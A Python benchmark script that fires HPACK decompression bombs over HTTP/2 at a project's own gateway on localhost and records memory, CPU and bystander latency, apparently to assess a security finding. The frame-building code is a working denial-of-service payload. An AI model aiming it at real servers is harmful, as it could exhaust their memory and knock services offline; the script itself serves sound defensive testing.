#!/usr/bin/env python3
"""HPACK decompression bombs against the gateway (issue 12, finding 1). Not a test:
it prints numbers. Run after `swift build -c release --product fleet-gateway
--product device-agent` (or point --bin at another build, e.g. main's):

    python3 bench/hpack_bomb.py [--bin .build/release]

A fresh gateway per scenario (default settings: idle_ping_ms 4000), a bystander
device dev2.example (real agent) asked every 20 ms throughout, and:
  - user-bomb: one header block over h2c, HEADERS + 8 CONTINUATION (144 KiB), that
    adds a 4,000-byte field to the HPACK dynamic table and references it ~147,000
    times (~590 MB decoded);
  - user-unfinished: three such blocks (HEADERS + 7 CONTINUATION) never ended,
    held for 5 s;
  - device-bomb: dev1.example, a hand-written device, sends the same block as the
    head of its response.
For each: the gateway's peak RSS growth (VmHWM), its CPU time, the slowest
bystander request, whether dev2 stayed connected, and what the attacker got.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "tests" / "e2e"))
import e2e_lib as lib  # noqa: E402
import hostile_lib as hl  # noqa: E402

FRAME = 16384
REQUEST = hl.hpack([(":method", "GET"), (":scheme", "http"), (":path", "/device"), (":authority", "dev2.example")])


def hwm_mib(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def bomb_frames(stream: int, prefix: bytes, frames: int, end_headers: bool = True) -> bytes:
    big = b"a" * 4000
    block = prefix + b"\x40" + hl._hpack_int(5, 7) + b"x-big" + hl._hpack_int(len(big), 7) + big
    block += b"\xbe" * (frames * FRAME - len(block))
    out = b""
    for i in range(frames):
        last = i == frames - 1
        flags = (hl.END_HEADERS if last and end_headers else 0) | (hl.END_STREAM if i == 0 else 0)
        out += hl.frame(hl.HEADERS if i == 0 else hl.CONTINUATION, flags, stream, block[i * FRAME:(i + 1) * FRAME])
    return out


class Bystander(threading.Thread):
    def __init__(self, port: int):
        super().__init__(daemon=True)
        self.port = port
        self.worst = 0.0
        self.failed = 0
        self.count = 0
        self.stop_event = threading.Event()
        self.start()

    def run(self):
        while not self.stop_event.is_set():
            t0 = time.monotonic()
            try:
                r = lib.request(self.port, "GET", "/device", "dev2.example", timeout=60)
                if r.status != 200:
                    self.failed += 1
            except OSError:
                self.failed += 1
            self.worst = max(self.worst, time.monotonic() - t0)
            self.count += 1
            time.sleep(0.02)

    def stop(self):
        self.stop_event.set()
        self.join(90)


def dev2_connections(gw) -> int:
    st, body = admin(gw, "/devices/dev2.example")
    return len(json.loads(body)["connections"]) if st == 200 else 0


def admin(gw, path):
    import http.client
    c = http.client.HTTPConnection("127.0.0.1", gw.admin_port, timeout=10)
    try:
        c.request("GET", path)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def user_bomb(gw, pki) -> str:
    s = socket.create_connection(("127.0.0.1", gw.public_port), timeout=60)
    s.sendall(hl.MAGIC + hl.settings() + bomb_frames(1, REQUEST, 9))
    r = hl.FrameReader(s)
    fr = r.until(lambda f: f[2] == 1 and f[0] in (hl.HEADERS, hl.RST_STREAM) or f[0] == hl.GOAWAY, 60)
    s.close()
    if fr is None:
        return "nothing within 60 s"
    return {hl.HEADERS: "a response", hl.RST_STREAM: f"RST_STREAM({int.from_bytes(fr[3], 'big')})",
            hl.GOAWAY: "GOAWAY"}[fr[0]]


def user_unfinished(gw, pki) -> str:
    socks = []
    for _ in range(3):
        s = socket.create_connection(("127.0.0.1", gw.public_port), timeout=60)
        s.sendall(hl.MAGIC + hl.settings() + bomb_frames(1, REQUEST, 8, end_headers=False))
        socks.append(s)
    time.sleep(5)
    for s in socks:
        s.close()
    return "held 5 s"


def device_bomb(gw, pki) -> str:
    s = hl.dial_device(gw, hl.device_tls(pki, pki.device_cert("dev1.example"), pki.device_key("dev1.example")))
    r = hl.FrameReader(s)
    s.sendall(hl.MAGIC + hl.settings(max_concurrent_streams=10))
    r.until(lambda f: f[0] == hl.SETTINGS and not f[1] & hl.ACK, 10)
    s.sendall(hl.frame(hl.SETTINGS, hl.ACK, 0))
    lib.wait_until(lambda: admin(gw, "/devices/dev1.example")[0] == 200, 10, "dev1 registered")
    u = socket.create_connection(("127.0.0.1", gw.public_port), timeout=60)
    u.sendall(b"GET /x HTTP/1.1\r\nHost: dev1.example\r\n\r\n")
    fr = r.until(lambda f: f[0] == hl.HEADERS, 10)
    block = bomb_frames(fr[2], b"\x88", 9)
    s.sendall(bytes([block[0], block[1], block[2], block[3], block[4] & ~hl.END_STREAM]) + block[5:])
    u.settimeout(60)
    try:
        got = u.recv(200).split(b"\r\n")[0].decode()
    except OSError as e:
        got = repr(e)
    u.close()
    s.close()
    return "user got " + got


def scenario(name, attack, pki, work) -> dict:
    pm = lib.ProcessManager(work / ("logs-" + name))
    api = lib.LocalAPI("dev2.example")
    try:
        gw = lib.start_gateway(pm, pki, log_level="notice", name="gateway-" + name)
        lib.start_agent(pm, gw.device_port, pki=pki, device="dev2.example", local_port=api.port, connections=1,
                        log_level="notice")
        assert lib.wait_device(gw, "dev2.example").status == 200
        time.sleep(0.5)
        pid = gw.proc.pid
        base = max(hwm_mib(pid), lib.rss_mib(pid))
        cpu0 = lib.cpu_seconds(pid)
        by = Bystander(gw.public_port)
        time.sleep(0.3)
        t0 = time.monotonic()
        answer = attack(gw, pki)
        took = time.monotonic() - t0
        time.sleep(1.0)
        by.stop()
        res = {"scenario": name, "answer": answer, "attack_s": round(took, 2),
               "peak_rss_growth_mib": round(hwm_mib(pid) - base, 1),
               "gateway_cpu_s": round(lib.cpu_seconds(pid) - cpu0, 2),
               "slowest_bystander_ms": round(by.worst * 1000), "bystander_requests": by.count,
               "bystander_failures": by.failed, "dev2_connected_after": dev2_connections(gw),
               "dev2_dropped": gw.proc.log().count("unresponsive")}
        return res
    finally:
        pm.stop_all()
        api.shutdown()


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default=str(REPO / ".build" / "release"))
    args = ap.parse_args()
    os.environ["RH_BIN"] = str(Path(args.bin).resolve())
    work = Path(tempfile.mkdtemp(prefix="hpack-bomb-"))
    pki = lib.make_pki(work)
    for name, attack in [("user-bomb", user_bomb), ("user-unfinished", user_unfinished), ("device-bomb", device_bomb)]:
        print(json.dumps(scenario(name, attack, pki, work)), flush=True)


if __name__ == "__main__":
    main()
